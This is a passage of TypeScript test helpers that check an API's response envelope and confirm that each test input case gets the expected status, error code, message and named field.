  const body = response.json() as Envelope
  assert.equal(typeof body.meta?.requestId, 'string', context)
  assert.equal(typeof body.meta?.processingTime, 'number', context)
  if (response.statusCode === 200) {
    assert.equal(body.success, true, context)
  } else {
    assert.equal(body.success, false, context)
    const code = body.error!.code as keyof typeof ERROR_STATUS
    assert.equal(ERROR_STATUS[code], response.statusCode, `${context}: ${code} goes with ${ERROR_STATUS[code]}`)
    assert.ok(body.error!.message.length > 0, context)
  }
  return body
}

export function expectError(response: SocketResponse, status: number, code: string, context: string): Envelope {
  const body = assertEnvelope(response, context)
  assert.equal(response.statusCode, status, `${context}: ${response.body.slice(0, 300)}`)
  assert.equal(body.error!.code, code, context)
  return body
}

/** The fields a validation error names: its details, or a pipeline step's `details.fields`. */
function namedFields(details: unknown): Array<{ field: string }> {
  if (Array.isArray(details)) return details
  return (details as { fields?: Array<{ field: string }> } | undefined)?.fields ?? []
}

/** Asserts that `response` is the answer `input` must get: its status, and for an error its code, message and field. */
export function expectAnswer(response: SocketResponse, input: HostileInput, context = `${input.operation}: ${input.name}`): Envelope {
  if (input.code === '') {
    const body = assertEnvelope(response, context)
    assert.equal(response.statusCode, input.status, `${context}: ${response.body.slice(0, 300)}`)
    return body
  }
  const body = expectError(response, input.status, input.code, context)
  if (input.message) assert.match(body.error!.message, input.message, context)
  if (input.field) {
    const { field } = input
    const named = namedFields(body.error!.details).map((detail) => detail.field)
    assert.ok(
      named.some((name) => name === field || name.startsWith(`${field}[`)),
      `${context}: the details name ${field}: ${JSON.stringify(body.error!.details)}`,
    )
  }
  return body
}
